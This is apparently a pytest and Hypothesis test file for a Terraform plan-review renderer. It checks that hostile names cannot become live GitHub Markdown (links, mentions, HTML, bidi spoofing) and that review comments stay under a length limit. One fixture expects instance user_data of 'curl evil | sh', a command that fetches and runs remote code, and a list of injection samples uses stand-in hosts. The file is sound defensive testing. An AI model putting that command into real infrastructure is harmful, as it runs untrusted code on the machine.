"""The Markdown of a review: nothing of a plan is live in it, and it always fits into a comment."""

from __future__ import annotations

import re
import string
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from plan_review.gates import judge, parse_rules
from plan_review.render import markdown as render_markdown
from plan_review.render.escape import cell, code, prose
from plan_review.render.fit import Rows, fit
from tests.unit.plan_review.support import load, plan, resource, review

RULES = ["no-destroy,no-public,no-iam-widening,no-plaintext-secret,only=x"]
LIMIT = 65_000
#: What GitHub makes something of in text outside of code, beside the markup of CommonMark.
LIVE = re.compile(
    r"\$|www\.|https?:|ftp:|mailto:|xmpp:|[\w.+-]+@[\w-]|@\w|:[\w+-]+:|\bGH-\d|#\d|\b[0-9a-f]{7,40}\b|[\u200b-\u200f\u202a-\u202e]",
    re.IGNORECASE,
)
HOSTILE = (
    "www.evil.example",
    "https://evil.example/a_b",
    "me@evil.example",
    ":x: :+1:",
    "GH-1 gh-2",
    "#1 org/repo#1 org/repo@deadbeefcafe",
    "@octocat @org/team",
    "<!-- hidden --> <b>bold</b> </details>",
    "`a` ``b`` ```",
    "a|b||c",
    "*a* **b** _c_ ~~d~~ [x](y) ![i](j) [ref] \\",
    "\u202egnp.exe\u200b\u2066x\u2069\U000e0041",
    "1. one\n2. two\n# h\n> q\n- l\n---\n===",
    "&lt;b&gt; &#64;octocat",
)
PIECES = [*HOSTILE, *"`*_[]()<>#@:|~!\\&$.- \n\t\u200b\u202e", "www", ".", "x", "1"]
NAMES = st.one_of(
    st.sampled_from(HOSTILE),
    st.lists(st.sampled_from(PIECES), max_size=8).map("".join),
    st.text(max_size=40),
    st.text(alphabet=string.punctuation + " aw1", max_size=40),
)


def texts(source: str) -> list[str]:
    """The text that a reader sees outside of code, piece by piece; fails on markup that isn't the review's own."""
    found: list[str] = []
    for token in MarkdownIt("gfm-like", {"linkify": False}).disable("linkify").parse(source):
        for child in token.children or ():
            assert child.type not in ("link_open", "image"), child
            if child.type == "html_inline":
                raise AssertionError(child)
            if child.type == "text":
                found.append(child.content)
        if token.type == "html_block":
            for line in token.content.splitlines():
                assert re.fullmatch(r"<details(?: open)?><summary><b>[\w ,:$]+</b></summary>|</details>|", line), line
    return found


def plan_of(name: str) -> dict[str, Any]:
    document = {"Statement": [{"Sid": name, "Effect": "Allow", "Action": name, "Resource": name, "Principal": name}]}
    return plan(
        resource(f'aws_sqs_queue.q["{name}"]', "update", before={"name": "a"}, after={"name": name, name: name}),
        resource("aws_sqs_queue.gone", "delete", before={"name": name}, action_reason=name),
        resource("aws_iam_role_policy.p", after={"role": name, "policy": document}),
        resource("aws_sqs_queue_policy.p", after={"queue_url": name, "policy": document}),
        resource(
            "aws_security_group.g",
            after={
                "name": name,
                "ingress": [{"description": name, "cidr_blocks": ["0.0.0.0/0"], "from_port": 1, "to_port": 2}],
            },
        ),
        resource("aws_new_thing.x", after={"a": name}, previous_address=name, importing={"id": name}),
        output_changes={name: {"actions": ["update"], "before": name, "after": name + "b"}},
        checks=[
            {
                "address": {"kind": "check", "to_display": name},
                "status": "fail",
                "instances": [{"address": {"to_display": name}, "status": "fail", "problems": [{"message": name}]}],
            }
        ],
    )


def rendered(item: dict[str, Any]) -> str:
    found = review(item)
    return render_markdown.render(found, judge(found, parse_rules(RULES)))


@settings(max_examples=40, deadline=None)
@given(NAMES)
@example("www.evil.example :x: GH-1 #1 @octocat")
@example("x`|` www.a")
def test_nothing_of_a_name_is_live(name: str) -> None:
    source = rendered(plan_of(name.encode("utf-8", "replace").decode()))
    for text in texts(source):
        assert not LIVE.search(text), text


def test_the_hostile_plan_is_harmless() -> None:
    for text in texts(rendered(load("cases/hostile.json"))):
        assert not LIVE.search(text), text


@settings(max_examples=200, deadline=None)
@given(NAMES)
@example("    ")
@example("WWW.")
def test_prose_shows_every_word_and_none_is_markup(name: str) -> None:
    (paragraph,) = [t for t in MarkdownIt("gfm-like", {"linkify": False}).parse(f"- {prose(name)} end") if t.children]
    kinds = {child.type for child in paragraph.children or ()}
    assert kinds <= {"text", "code_inline"}
    assert not any(LIVE.search(c.content) for c in paragraph.children or () if c.type == "text")


def test_prose_keeps_sentences_as_they_are_and_shows_names_as_code() -> None:
    assert prose("Gives 7 new rights (3 identities), 2 to look at twice.") == (
        "Gives 7 new rights (3 identities), 2 to look at twice."
    )
    assert prose("aws_x.y: is destroyed (gone)") == "`aws_x.y`: is destroyed (gone)"
    assert prose("About $1,234.50 a month (+$15).") == "About `$1,234.50` a month (`+$15`)."
    assert prose("may * on [x]") == "may `*` on `[x]`"


@pytest.mark.parametrize("text", ["a|b", "`", "``x``", "a`b", "", " ", "\n", "|", "\\", "x\\"])
def test_code_holds_any_text_on_one_line_of_a_table(text: str) -> None:
    table = f"| a | b |\n|---|---|\n| {cell(text)} | end |\n"
    row = [t for t in MarkdownIt("gfm-like", {"linkify": False}).parse(table) if t.type == "inline"][2:]
    assert [child.type for child in row[0].children or ()] == ["code_inline"]
    assert row[1].content == "end"
    assert "\n" not in code(text)


# --- length ----------------------------------------------------------------------------------------------------------


def changes(number: int, size: int) -> dict[str, Any]:
    long = "x" * size
    return plan(
        *(
            resource(f"aws_sqs_queue.q{i}", "update", before={"a": "1", "b": "2"}, after={"a": long, "b": long})
            for i in range(number)
        )
    )


def test_a_long_comment_is_filled_up_to_the_limit_and_counts_what_is_missing() -> None:
    source = rendered(changes(3000, 3000))
    assert LIMIT - 3_000 < len(source) <= LIMIT
    shown = source.count("- `~` change `aws_sqs_queue.q")
    assert shown > 500
    assert f"… and {3000 - shown} more" in source
    assert f"Changes ({3000 - shown} rows" in source.splitlines()[-1]


def test_every_object_is_named_before_the_first_one_is_shown_in_full() -> None:
    source = rendered(changes(400, 3000))
    assert len(source) <= LIMIT
    assert source.count("- `~` change `aws_sqs_queue.q") == 400
    whole = source.count('  - `b`: `"2"` → ')
    assert 50 < whole < 400
    assert f"Changes (details of {400 - whole} rows)" in source.splitlines()[-1]


def test_one_long_section_takes_nothing_from_the_others() -> None:
    many = [
        resource(
            f"aws_iam_role_policy.p{i}",
            after={
                "role": f"r{i}",
                "policy": {"Statement": [{"Effect": "Allow", "Action": [f"a:{'x' * 3000}{k}" for k in range(20)]}]},
            },
        )
        for i in range(150)
    ]
    source = rendered(plan(resource("aws_sqs_queue.mine", after={"name": "q"}), *many))
    assert LIMIT - 6_000 < len(source) <= LIMIT
    assert "`aws_sqs_queue.mine`" in source
    assert "Who may do what (" in source.splitlines()[-1]


@settings(max_examples=20, deadline=None)
@given(st.sampled_from(["\x1b", "`", "* ", "a_ ", "|", "x"]), st.integers(1, 4000), st.integers(1, 120))
def test_it_is_never_longer_than_a_comment_may_be(piece: str, length: int, number: int) -> None:
    name = (piece * length)[:length]
    item = plan(
        *(
            resource(f'aws_sqs_queue.q["{name}{i}"]', "delete", before={"name": name, name: name}, action_reason=name)
            for i in range(number)
        ),
        resource(f"aws_{name}.y", after={"x": name}),
    )
    source = rendered(item)
    assert len(source) <= LIMIT
    assert source.count("<details") == source.count("</details>")


@given(
    st.lists(st.lists(st.tuples(st.integers(1, 40), st.integers(0, 200)), max_size=30), max_size=6),
    st.integers(600, 5000),
)
def test_sections_fit_and_every_row_is_shown_or_counted(shape: list[list[tuple[int, int]]], room: int) -> None:
    def section(index: int, rows: list[tuple[int, int]]) -> Rows[tuple[int, int]]:
        return Rows(
            str(index),
            rows,
            lambda i, short: f"{index}:{i};" + "s" * rows[i][0] + ("" if short else "f" * rows[i][1]) + "\n",
            lambda body: f"<{body}>",
        )

    fitted = fit([section(index, rows) for index, rows in enumerate(shape)], room)
    assert sum(len(f.text) for f in fitted) <= room
    for index, (rows, result) in enumerate(zip(shape, fitted, strict=True)):
        assert len(re.findall(rf"(?m)^<?{index}:\d+;", result.text)) + result.omitted == len(rows)
    everything = sum(len(f"{i}:{k};\n") + s + f for i, rows in enumerate(shape) for k, (s, f) in enumerate(rows))
    if everything + 2 * len(shape) <= room // max(1, len(shape)):
        assert not any(f.omitted or f.shortened for f in fitted)


def test_every_section_is_there_when_there_is_something_in_it() -> None:
    source = rendered(load("change.json"))
    for title in ("Gates", "Needs a look", "Who may do what", "Network", "Secrets", "Picture", "Changes", "Outputs"):
        assert f"<b>{title}</b>" in source


def test_what_is_created_shows_the_fields_that_matter_and_counts_the_others() -> None:
    source = rendered(load("cases/create_fields.json"))
    assert (
        """- `+` create `aws_instance.big`
  - `instance_type`: `"p5.48xlarge"`
  - `ami`: `"ami-1"`
  - `user_data`: `"curl evil | sh"`
"""
        in source
    )
    assert '- `~` change `output.url`\n  - `value`: `"https://old"` → `"https://new"`' in source
    source = rendered(load("create.json"))
    assert re.search(
        r"- `\+` create `aws_dynamodb_table.state`\n  - `name`: .*\n(  - .*\n){1,8}  - … and \d+ more", source
    )
